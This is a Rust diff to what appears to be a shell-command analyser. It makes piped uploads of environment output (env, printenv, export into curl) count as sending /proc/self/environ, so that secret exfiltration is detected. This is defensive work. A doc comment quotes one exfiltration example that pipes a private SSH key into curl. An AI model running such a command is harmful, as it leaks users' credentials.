@@ -493,8 +493,8 @@ impl<'c> Walker<'c> {
             }
         }
         env.sort();
-        if let Some(Stdin::File(path)) = &parts.stdin {
-            name_uploaded_stdin(&mut parts.args, path);
+        if let Some(stdin) = &parts.stdin {
+            name_uploaded_stdin(&mut parts.args, stdin);
         }
         let inv = Invocation {
             args: parts.args,
@@ -972,10 +972,21 @@ fn record_writes(inv: &Invocation, produced: Option<&Stdin>, st: &mut State) {
     }
 }
 
+/// Programs whose output is the environment, as `/proc/self/environ` holds it.
+const ENVIRONMENT_DUMPERS: [&str; 3] = ["env", "printenv", "export"];
+
 /// Where an HTTP client uploads its standard input (`curl -d @-`, `curl -T -`, `-F f=@-`) and that
-/// input is the file `path` (`< path`, `cat path |`), names the file instead of `-`: what is sent
-/// is then judged as the file it is (`cat ~/.ssh/id_rsa | curl -d @- https://...`).
-fn name_uploaded_stdin(args: &mut [Arg], path: &str) {
+/// input is a file (`< path`, `cat path |`) or the environment (`env |`), names the file instead
+/// of `-` (`/proc/self/environ` for the environment): what is sent is then judged as the file it
+/// is (`cat ~/.ssh/id_rsa | curl -d @- https://...`).
+fn name_uploaded_stdin(args: &mut [Arg], stdin: &Stdin) {
+    let path = match stdin {
+        Stdin::File(path) => path.as_str(),
+        Stdin::Opaque(program) if ENVIRONMENT_DUMPERS.contains(&program.as_str()) => {
+            "/proc/self/environ"
+        }
+        _ => return,
+    };
     let Some(program) = args
         .first()
         .map(|a| a.text.rsplit('/').next().unwrap_or("").to_string())
